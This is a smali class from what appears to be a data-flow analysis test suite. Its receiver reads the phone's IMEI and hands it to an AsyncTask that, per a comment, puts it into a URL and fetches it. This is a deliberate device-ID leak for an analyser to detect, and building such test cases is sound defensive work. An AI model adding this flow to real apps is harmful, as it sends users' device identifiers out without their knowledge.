.class public Lorg/phonehome/test/flows/AsyncCase;
.super Landroid/content/BroadcastReceiver;
.source "AsyncCase.java"

# The IMEI goes to an AsyncTask subclass (execute -> doInBackground through javac's bridge method), is formatted into a URL and fetched.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 7
    const-string v0, "phone"
    invoke-virtual {p1, v0}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v1
    const/4 v2, 0x1
    new-array v2, v2, [Ljava/lang/String;
    const/4 v3, 0x0
    aput-object v1, v2, v3
    new-instance v0, Lorg/phonehome/test/flows/Fetcher;
    invoke-direct {v0}, Lorg/phonehome/test/flows/Fetcher;-><init>()V
    invoke-virtual {v0, v2}, Lorg/phonehome/test/flows/Fetcher;->execute([Ljava/lang/Object;)Landroid/os/AsyncTask;
    return-void
.end method
